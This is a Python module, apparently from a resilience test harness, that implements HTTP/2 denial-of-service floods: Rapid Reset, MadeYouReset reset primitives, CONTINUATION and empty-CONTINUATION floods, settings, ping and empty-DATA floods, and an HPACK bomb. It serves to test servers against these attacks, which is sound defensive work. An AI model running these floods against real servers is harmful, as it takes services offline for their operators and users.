"""The floods themselves: each takes an H2Peer that has greeted, and the fields of a good request,
and returns what became of the connection. They work the same on an agent (the peer plays the edge)
and on an edge (the peer plays a client)."""

import struct

from h2_peer import (CONTINUATION, DATA, END_STREAM, HEADERS, PADDED, PING, PRIORITY, data, frame,
                     headers, literal, ping, reset, settings, window_update)


def send_each(peer, pieces):
    """Sends until the other end is gone; then the code of its GOAWAY (-1 for none), None if it
    took everything."""
    for number, piece in enumerate(pieces):
        peer.send(piece)
        if number % 64 == 0:
            peer.pump(0)
        if peer.ended or peer.go_away > 0:
            break
    if not peer.ended and peer.go_away <= 0:
        peer.flush(60)
        # Whatever it has to say about what came last is said before this answer.
        pings = peer.counts[PING]
        peer.send(ping(b"thatsall"))
        peer.wait_for_end_or(lambda: peer.counts[PING] > pings, "the answer to a PING")
    if peer.ended or peer.go_away > 0:
        return peer.wait_end()
    return None


def rapid_reset(peer, fields, count):
    """CVE-2023-44487, with both frames of each request in one piece."""
    def requests():
        for _ in range(count):
            stream = peer.next_stream()
            yield headers(stream, fields, end_stream=True) + reset(stream)
    return send_each(peer, requests())


def reset_begun(peer, fields, count, begun, at_a_time=100):
    """The same with requests that had begun: begun(number) says whether so many have reached the
    origin since it was asked last."""
    def portions():
        for _ in range(count // at_a_time):
            streams = [peer.next_stream() for _ in range(at_a_time)]
            peer.send(b"".join(headers(stream, fields, end_stream=True) for stream in streams))
            peer.wait_for_end_or(lambda: begun(at_a_time), f"{at_a_time} requests begin")
            yield b"".join(reset(stream) for stream in streams)
    return send_each(peer, portions())


# CVE-2025-8671: frames that make the other end reset a stream whose request is under way.
MADE_YOU_RESET = {
    "window overflow": lambda stream: window_update(stream, (1 << 31) - 1),
    "window update of 0": lambda stream: window_update(stream, 0),
    "DATA after the end": lambda stream: data(stream, b"more"),
    "HEADERS after the end": lambda stream: headers(stream, [("x-late", "1")], end_stream=True),
    "PRIORITY of 4 bytes": lambda stream: frame(PRIORITY, 0, stream, b"\0\0\0\0"),
    "PRIORITY on itself": lambda stream: frame(PRIORITY, 0, stream,
                                               struct.pack(">IB", stream, 16)),
    "WINDOW_UPDATE of 3 bytes": lambda stream: frame(8, 0, stream, b"\0\0\1"),
}


def make_reset(peer, fields, primitive, count):
    provoke = MADE_YOU_RESET[primitive]

    def requests():
        for _ in range(count):
            stream = peer.next_stream()
            peer.send(headers(stream, fields, end_stream=True))
            peer.flush()
            yield provoke(stream)
    return send_each(peer, requests())


def malformed_requests(peer, fields, count):
    """Requests that each cost a reset of the other end."""
    bad = [*fields, ("connection", "close")]
    return send_each(peer, (headers(peer.next_stream(), bad, end_stream=True)
                            for _ in range(count)))


def excess_streams(peer, fields, count):
    """More requests at a time than may be under way; all are meant to be answered or refused."""
    return send_each(peer, (headers(peer.next_stream(), fields, end_stream=True)
                            for _ in range(count)))


def continuation_flood(peer, fields, count):
    """CVE-2024-27316: a header block that never ends."""
    line = literal("x", "y" * 1000)
    frames = [frame(HEADERS, END_STREAM, peer.next_stream(), b"".join(
        literal(name, value) for name, value in fields))]
    frames += [frame(CONTINUATION, 0, 1, line)] * count
    return send_each(peer, frames)


def empty_continuation_flood(peer, fields, count):
    """The same without a byte in any frame."""
    stream = peer.next_stream()
    return send_each(peer, [frame(HEADERS, END_STREAM, stream, b"".join(
        literal(name, value) for name, value in fields))]
        + [frame(CONTINUATION, 0, stream)] * count)


def ping_flood(peer, fields, count):
    del fields
    return send_each(peer, [ping()] * count)


def settings_flood(peer, fields, count):
    """CVE-2019-9515, each with as many values as a frame may hold."""
    del fields
    return send_each(peer, [settings([(4, 65535 + number) for number in range(30)])] * count)


def empty_data_flood(peer, fields, count):
    """CVE-2019-9518, with and without padding."""
    stream = peer.next_stream()
    frames = [headers(stream, fields)]
    for _ in range(count // 2):
        frames += [data(stream), frame(DATA, PADDED, stream, b"\x03\0\0\0")]
    return send_each(peer, frames)


def unknown_frame_flood(peer, fields, count):
    del fields
    return send_each(peer, [frame(0x77, 0, 0, b"?" * 1000)] * count)


def hpack_bomb(peer, fields, count):
    """One entry of the table, named again and again: a block of a few kB that decodes to
    megabytes."""
    encoded = b"".join(literal(name, value) for name, value in fields)
    stream = peer.next_stream()
    peer.send(headers(stream, encoded + literal("x-bomb", "b" * 3500, 0x40) + b"\xbe" * 4000,
                      end_stream=True))
    return send_each(peer, (headers(peer.next_stream(), encoded + b"\xbe" * 16000,
                                    end_stream=True) for _ in range(count - 1)))


def tiny_data(peer, fields, count):
    """An upload of one byte a frame, padded to 256."""
    stream = peer.next_stream()
    peer.send(headers(stream, fields))
    piece = frame(DATA, PADDED, stream, b"\xfe" + b"a" + b"\0" * 254)
    sent = 0

    def pieces():
        nonlocal sent
        while sent < count:
            sent += 1
            yield piece
            if sent % 200 == 0:  # within the smallest window
                yield ping(b"tinydata")
    return send_each(peer, pieces())
